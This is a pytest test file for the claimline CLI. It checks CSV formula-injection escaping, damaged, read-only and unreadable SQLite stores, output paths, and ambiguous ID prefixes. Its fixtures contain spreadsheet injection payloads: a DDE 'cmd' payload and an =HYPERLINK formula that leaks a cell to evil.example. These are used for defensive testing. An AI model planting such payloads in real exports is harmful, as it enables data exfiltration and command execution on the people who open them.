"""Issue 11 through the CLI: damaged, read-only and unreadable stores, output paths, CSV formula
injection from hostile pages, and ``show`` with IDs that share a prefix.

Every failure is asserted as the exact one red line on stderr and exit code 1. Stores are built
with ``claimline load`` from hand-made extractions, so nothing here loads spaCy (except the one
test marked slow that ingests a hostile page for real).
"""

from __future__ import annotations

import contextlib
import csv
import gc
import io
import json
import os
import shutil
import sqlite3
import subprocess
import tempfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from typer.testing import CliRunner

from claimline.cli import app
from claimline.extraction.claims import article_id
from claimline.schemas import Article, Claim, Extraction, Offsets, Source

runner = CliRunner()


def invoke(*args: str):  # type: ignore[no-untyped-def]
    return runner.invoke(app, list(args))


def one_error(result, message: str) -> None:  # type: ignore[no-untyped-def]
    """Exit code 1, no traceback, and stderr is exactly ``Error: message``."""
    assert result.exit_code == 1, (result.exit_code, result.output, result.exception)
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.stderr == f"Error: {message}\n", result.stderr


def extraction(
    text: str, *, title: str = "T", publisher: str = "Wire", actors: list[str] | None = None, **claim: object
) -> Extraction:
    aid = article_id(text)
    c = Claim(
        id=f"{aid}-001",
        article_id=aid,
        text=text[20:],
        start=20,
        end=len(text),
        sentence=Offsets(start=0, end=len(text)),
        source=Source(text=text[:14], start=0, end=14, actor="NATO", kind="official"),
        actors=actors or ["NATO"],
        **claim,  # type: ignore[arg-type]
    )
    art = Article(id=aid, title=title, publisher=publisher, published=date(2026, 3, 5), chars=len(text))
    return Extraction(article=art, text=text, claims=[c])


def load(db: Path, *exs: Extraction) -> None:
    jsonl = db.with_suffix(".jsonl")
    jsonl.write_text("".join(ex.model_dump_json() + "\n" for ex in exs))
    result = invoke("load", "--db", str(db), str(jsonl))
    assert result.exit_code == 0, result.output


def small_store(db: Path, n: int = 1) -> list[Extraction]:
    exs = [extraction(f"NATO officials said the AI runs on unclassified networks, report {i}.") for i in range(n)]
    load(db, *exs)
    return exs


# ------------------------------------------------------------- CSV injection
HOSTILE_TITLE = "=cmd|' /C calc'!A0"
HOSTILE_PUBLISHER = '=HYPERLINK("http://evil.example/?x="&A1,"Wire")'


def hostile_store(db: Path) -> None:
    a = extraction(
        "NATO officials said =1+2 the system runs on classified networks.",
        title=HOSTILE_TITLE,
        publisher=HOSTILE_PUBLISHER,
        actors=["+Evil Corp", "NATO"],
        network_tier="classified",
        subject="+Evil Corp",
    )
    b = extraction(
        "NATO officials said @SUM(A1) the system runs on unclassified networks.",
        title="-2+3",
        publisher="\tTabbed Times",
        actors=["+Evil Corp", "NATO"],
        network_tier="unclassified",
        subject="+Evil Corp",
    )
    load(db, a, b)


FORMULA = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.parametrize(
    "command",
    # the claim timeline: this store's claims come without event frames (the event timeline's CSV is
    # checked on a real ingest in test_hostile_html_page_ingested_for_real_is_escaped)
    [
        ["articles"],
        ["claims"],
        ["timeline", "--claims"],
        ["conflicts"],
        ["actors"],
        ["claims", "--actor", "+Evil Corp"],
    ],
)
def test_csv_escapes_formulas_in_every_listing(tmp_path, command):
    db = tmp_path / "hostile.db"
    hostile_store(db)
    result = invoke(*command, "--db", str(db), "--format", "csv")
    assert result.exit_code == 0, result.output
    cells = csv_cells(result.stdout)
    assert len(cells) > 5, result.stdout
    assert not [c for c in cells if c.startswith(FORMULA)], result.stdout
    assert any(c.startswith(("'=", "'+", "'@", "'-", "'\t")) for c in cells), result.stdout


def test_csv_escaped_cells_are_exact(tmp_path):
    db = tmp_path / "hostile.db"
    hostile_store(db)
    rows = list(csv.DictReader(io.StringIO(invoke("articles", "--db", str(db), "-f", "csv").stdout)))
    titles = {r["title"] for r in rows}
    assert titles == {"'" + HOSTILE_TITLE, "'-2+3"}
    assert {r["publisher"] for r in rows} == {"'" + HOSTILE_PUBLISHER, "'\tTabbed Times"}
    claims = list(csv.DictReader(io.StringIO(invoke("claims", "--db", str(db), "-f", "csv").stdout)))
    assert sorted(r["text"] for r in claims) == [
        "'=1+2 the system runs on classified networks.",
        "'@SUM(A1) the system runs on unclassified networks.",
    ]
    assert {r["actors"] for r in claims} == {"'+Evil Corp; NATO"}
    # JSON keeps the text as it is: escaping is for spreadsheets only
    data = json.loads(invoke("articles", "--db", str(db), "-f", "json").stdout)
    assert {a["title"] for a in data} == {HOSTILE_TITLE, "-2+3"}


def test_conflicts_csv_from_hostile_store_is_escaped(tmp_path):
    db = tmp_path / "hostile.db"
    hostile_store(db)
    rows = list(csv.DictReader(io.StringIO(invoke("conflicts", "--db", str(db), "-f", "csv").stdout)))
    assert len(rows) == 1, "the two claims disagree about the network tier"
    assert rows[0]["subject"].startswith("'+Evil Corp"), rows[0]


@pytest.mark.slow
def test_hostile_html_page_ingested_for_real_is_escaped(tmp_path):
    page = tmp_path / "hostile.html"
    page.write_text(
        "<html><head><title>=cmd|' /C calc'!A0</title>"
        '<meta property="og:site_name" content="=HYPERLINK(&quot;http://evil.example&quot;)">'
        '<meta property="article:published_time" content="2026-03-05"></head><body><article>'
        "<p>The alliance met in Brussels on Tuesday to discuss its networks.</p>"
        "<p>“=1+2 is what the system will cost,” said Anna Berg, a NATO spokesperson.</p>"
        "<p>NATO officials said the system would run on unclassified networks.</p>"
        "</article></body></html>",
        encoding="utf-8",
    )
    db = tmp_path / "h.db"
    assert invoke("ingest", "--db", str(db), str(page)).exit_code == 0
    for command in ("articles", "claims", "timeline"):
        result = invoke(command, "--db", str(db), "-f", "csv")
        assert result.exit_code == 0, result.output
        cells = csv_cells(result.stdout)
        assert not [c for c in cells if c.startswith(FORMULA)], (command, result.stdout)
    titles = [r["title"] for r in csv.DictReader(io.StringIO(invoke("articles", "--db", str(db), "-f", "csv").stdout))]
    assert titles == ["'=cmd|' /C calc'!A0"]


# ----------------------------------------------------------------------- show
def test_show_article_id_with_many_claims_is_the_article(tmp_path):
    db = tmp_path / "s.db"
    text = "NATO officials said the AI runs on unclassified networks, and more."
    ex = extraction(text)
    second = ex.claims[0].model_copy(update={"id": f"{ex.article.id}-002"})
    ex = ex.model_copy(update={"claims": [ex.claims[0], second]})
    load(db, ex)
    aid = ex.article.id
    for ident in (aid, aid[:6]):
        result = invoke("show", ident, "--db", str(db), "-f", "json")
        assert result.exit_code == 0, result.output
        assert json.loads(result.stdout)["article"]["id"] == aid
    result = invoke("show", f"{aid}-002", "--db", str(db), "-f", "json")
    assert json.loads(result.stdout)["claim"]["id"] == f"{aid}-002"
    one_error(
        invoke("show", f"{aid}-00", "--db", str(db)),
        f"ID prefix '{aid}-00' is ambiguous: {aid}-001 (claim), {aid}-002 (claim); give more characters",
    )


def test_show_ambiguous_article_prefix_lists_candidates(tmp_path):
    db = tmp_path / "s.db"
    exs = small_store(db, 40)
    ids = sorted(ex.article.id for ex in exs)
    # two articles whose IDs share a first character
    first = next(i for i, a in enumerate(ids[:-1]) if ids[i + 1][0] == a[0])
    prefix = ids[first][0]
    matching = [a for a in ids if a.startswith(prefix)]
    listed = ", ".join(f"{a} (article)" for a in matching[:5])
    more = " and more" if len(matching) > 5 else ""
    one_error(
        invoke("show", prefix, "--db", str(db)),
        f"ID prefix '{prefix}' is ambiguous: {listed}{more}; give more characters",
    )
    one_error(invoke("show", "zz", "--db", str(db)), "no article, claim, conflict or event with ID 'zz'")
    one_error(invoke("show", "%", "--db", str(db)), "no article, claim, conflict or event with ID '%'")


# --------------------------------------------------------------- output paths
def test_timeline_output_needs_its_folder(tmp_path):
    """A missing folder is one red line, as for a store (review 11, S14: -o made the folders a typo named)."""
    db = tmp_path / "s.db"
    small_store(db)
    target = tmp_path / "missing" / "deeper" / "x.html"
    one_error(
        invoke("timeline", "--db", str(db), "-f", "html", "-o", str(target)),
        f"cannot write {target}: the folder {target.parent} does not exist",
    )
    assert not (tmp_path / "missing").exists()
    target = tmp_path / "x.html"
    result = invoke("timeline", "--db", str(db), "-f", "html", "-o", str(target))
    assert result.exit_code == 0, result.output
    assert result.stderr == f"wrote {target}\n"
    assert target.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


def test_timeline_output_that_cannot_be_written(tmp_path):
    db = tmp_path / "s.db"
    small_store(db)
    blocker = tmp_path / "afile"
    blocker.write_text("not a folder")
    target = blocker / "x.html"
    one_error(
        invoke("timeline", "--db", str(db), "-f", "html", "-o", str(target)),
        f"cannot write {target}: the folder {blocker} is not a folder",
    )
    one_error(
        invoke("timeline", "--db", str(db), "-f", "csv", "-o", str(tmp_path)),
        f"cannot write {tmp_path}: it is a folder",
    )


# ------------------------------------------------------------ damaged stores
def damage(db: Path, *tables: str) -> None:
    """Overwrite the root page of each table with garbage (the file header stays valid)."""
    con = sqlite3.connect(db)
    con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    page_size = con.execute("PRAGMA page_size").fetchone()[0]
    roots = [con.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", (t,)).fetchone()[0] for t in tables]
    con.close()
    data = bytearray(db.read_bytes())
    for root in roots:
        data[(root - 1) * page_size : root * page_size] = b"\xde\xad\xbe\xef" * (page_size // 4)
    db.write_bytes(bytes(data))


@pytest.fixture()
def damaged(tmp_path) -> Path:
    db = tmp_path / "damaged.db"
    small_store(db, 60)
    damage(db, "articles", "claims")
    return db


def first_article(db: Path) -> str:
    con = sqlite3.connect(db)
    try:  # the primary-key index is intact: the ID is found, the article's row is not
        return con.execute("SELECT id FROM articles INDEXED BY sqlite_autoindex_articles_1 LIMIT 1").fetchone()[0]
    finally:
        con.close()


DAMAGED_LINE = (
    "{db} is damaged (database disk image is malformed); restore it from a backup, "
    "or run 'claimline check --db {db}' to see which tables are damaged"
)


@pytest.mark.parametrize(
    "command",
    # the claim timeline: this store's claims come without event frames, so the (default) event timeline
    # reads no damaged page
    [["articles"], ["claims"], ["timeline", "--claims"], ["timeline", "--claims", "--actor", "NATO"], ["show", "ID"]],
)
def test_damaged_store_is_one_line(damaged, command):
    command = [first_article(damaged) if a == "ID" else a for a in command]
    one_error(invoke(*command, "--db", str(damaged)), DAMAGED_LINE.format(db=damaged))


def test_damaged_store_info_says_so(damaged):
    one_error(
        invoke("info", "--db", str(damaged)),
        f"{damaged} is damaged (tables articles, claims); restore it from a backup",
    )


def test_damaged_store_load_is_one_line(damaged, tmp_path):
    jsonl = tmp_path / "more.jsonl"
    jsonl.write_text(extraction("NATO officials said the AI runs on unclassified networks, again.").model_dump_json())
    one_error(invoke("load", "--db", str(damaged), str(jsonl)), DAMAGED_LINE.format(db=damaged))


def test_check_names_the_damaged_tables(damaged, tmp_path):
    result = invoke("check", "--db", str(damaged))
    assert result.stdout.strip(), "the problems SQLite found are listed"
    one_error(result, f"{damaged} is damaged (tables articles, claims); restore it from a backup")
    good = tmp_path / "good.db"
    small_store(good)
    result = invoke("check", "--db", str(good))
    assert (result.exit_code, result.stdout) == (0, f"ok: {good} passed SQLite's integrity check\n")
    info = json.loads(invoke("info", "--db", str(good), "-f", "json").stdout)
    assert info["integrity"] == "ok"


def test_not_sqlite_at_all_is_named_as_such(tmp_path):
    notes = tmp_path / "notes.db"
    notes.write_text("my notes\n" * 100)
    message = (
        f"{notes} is not a claimline store (not an SQLite file); "
        "pass another --db, or restore it from a backup if it was one"
    )
    one_error(invoke("articles", "--db", str(notes)), message)
    one_error(invoke("check", "--db", str(notes)), message)


# -------------------------------------------------------- read-only stores
@contextlib.contextmanager
def without_root() -> Iterator[None]:
    """File permissions apply: as root, run as 'nobody' (effective uid) for the block."""
    if os.geteuid() != 0:
        yield
        return
    # what the commands import lazily, imported now: 'nobody' cannot read root's Python
    import rich.progress  # noqa: F401

    import claimline.jobs.ingest  # noqa: F401
    import claimline.jobs.sources  # noqa: F401
    import claimline.read.fetch  # noqa: F401

    os.setegid(65534)
    os.seteuid(65534)
    try:
        yield
    finally:
        os.seteuid(0)
        os.setegid(0)


@pytest.fixture()
def shared_dir() -> Iterator[Path]:
    """A folder that a non-root user can enter (pytest's tmp_path is private to root)."""
    d = Path(tempfile.mkdtemp(prefix="claimline-ro-"))
    d.chmod(0o755)
    yield d
    for p in [d, *d.rglob("*")]:
        p.chmod(0o755 if p.is_dir() else 0o644)
    shutil.rmtree(d)


def test_read_only_store_file(shared_dir):
    folder = shared_dir / "w"
    folder.mkdir()
    db = folder / "s.db"
    small_store(db)
    jsonl = db.with_suffix(".jsonl")
    db.chmod(0o444)
    jsonl.chmod(0o644)
    folder.chmod(0o777)
    with without_root():
        one_error(
            invoke("load", "--db", str(db), str(jsonl)),
            f"store {db} is read-only: you have no write permission on the file; make it writable, "
            "or copy it to a writable folder and pass that copy with --db",
        )
        one_error(
            invoke("ingest", "--db", str(db), str(jsonl)),
            f"store {db} is read-only: you have no write permission on the file; make it writable, "
            "or copy it to a writable folder and pass that copy with --db",
        )
        assert invoke("articles", "--db", str(db)).exit_code == 0


def test_store_in_a_folder_without_write_permission(shared_dir):
    folder = shared_dir / "r"
    folder.mkdir()
    db = folder / "s.db"
    small_store(db)
    gc.collect()  # the loading connection is closed: SQLite has removed s.db-wal and s.db-shm
    assert sorted(p.name for p in folder.iterdir()) == ["s.db", "s.jsonl"]
    folder.chmod(0o555)
    db.chmod(0o644)
    with without_root():
        one_error(
            invoke("articles", "--db", str(db)),
            f"store {db} is read-only: you have no write permission on its folder {folder} "
            "(SQLite writes s.db-wal and -shm there); make it writable, "
            "or copy it to a writable folder and pass that copy with --db",
        )


def test_unreadable_store(shared_dir):
    db = shared_dir / "private.db"
    small_store(db)
    db.chmod(0o600)
    with without_root():
        one_error(invoke("articles", "--db", str(db)), f"cannot read store {db}: Permission denied")


@pytest.fixture()
def read_only_mount(shared_dir) -> Iterator[Path]:
    src, mnt = shared_dir / "src", shared_dir / "mnt"
    src.mkdir()
    mnt.mkdir()
    small_store(src / "s.db", 3)
    (src / "s.jsonl").unlink()
    gc.collect()
    assert sorted(p.name for p in src.iterdir()) == ["s.db"]
    done = subprocess.run(["mount", "--bind", "-o", "ro", str(src), str(mnt)], capture_output=True, text=True)
    if done.returncode != 0:
        pytest.skip(f"cannot make a read-only mount here: {done.stderr.strip()}")
    try:
        if os.access(mnt, os.W_OK) and not os.statvfs(mnt).f_flag & os.ST_RDONLY:
            pytest.skip("the bind mount is not read-only")
        yield mnt
    finally:
        gc.collect()  # close the connections the commands left to the garbage collector
        if subprocess.run(["umount", str(mnt)], capture_output=True).returncode != 0:
            subprocess.run(["umount", "-l", str(mnt)], check=True)


def test_read_only_mount_reads_and_refuses_writes(read_only_mount, tmp_path):
    db = read_only_mount / "s.db"
    result = invoke("articles", "--db", str(db), "-f", "json")
    assert result.exit_code == 0, result.output
    assert len(json.loads(result.stdout)) == 3
    assert invoke("check", "--db", str(db)).stdout == f"ok: {db} passed SQLite's integrity check\n"
    jsonl = tmp_path / "x.jsonl"
    jsonl.write_text(extraction("NATO officials said the AI runs on unclassified networks, at last.").model_dump_json())
    one_error(
        invoke("load", "--db", str(db), str(jsonl)),
        f"store {db} is read-only: it is on a read-only file system; make it writable, "
        "or copy it to a writable folder and pass that copy with --db",
    )


# ------------------------------------------------------ undecodable bytes, no text
@pytest.mark.slow
def test_invalid_utf8_is_decoded_with_a_warning(tmp_path):
    page = tmp_path / "damaged.txt"
    text = "Harbour plans\n\nZoé Mäkelä, the port’s director, said the work would start in May.\n"
    page.write_bytes(text.encode("utf-8").replace(b"start", b"st\xffa\xferst"))
    db = tmp_path / "s.db"
    result = invoke("ingest", "--db", str(db), str(page))
    assert result.exit_code == 0, result.output
    assert result.stderr == f"Warning: {page}: 2 bytes are not valid UTF-8 and replaced with U+FFFD (\ufffd)\n"
    claims = json.loads(invoke("claims", "--db", str(db), "-f", "json").stdout)
    assert any("st\ufffda\ufffdrst in May" in c["text"] for c in claims), claims
    shown = json.loads(invoke("show", claims[0]["id"], "--db", str(db), "-f", "json").stdout)
    assert "Zoé Mäkelä" in shown["sentence"]  # one bad byte does not turn the rest into mojibake
    result = invoke("extract", str(page))
    assert result.exit_code == 0
    assert result.stderr == f"Warning: {page}: 2 bytes are not valid UTF-8 and replaced with U+FFFD (\ufffd)\n"


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("tags.html", b"<html><head><title></title><script>var a = 1;</script></head><body><div></div></body></html>",
         "only markup, scripts or styles"),
        ("dashes.txt", "---- * * * ----\n\n…\n".encode(), "no letter or digit"),
    ],
)  # fmt: skip
def test_page_without_readable_text_is_reported_not_stored(tmp_path, name, data, why):
    page = tmp_path / name
    page.write_bytes(data)
    db = tmp_path / "s.db"
    result = invoke("ingest", "--db", str(db), str(page))
    one_error(result, f"{page} has no readable text ({why})")
    assert result.stdout == "0 stored, 0 already present, 1 failed; 0 claims found\n"
    assert not db.exists()  # nothing stored: the store this ingest made is removed (review 13, U10)
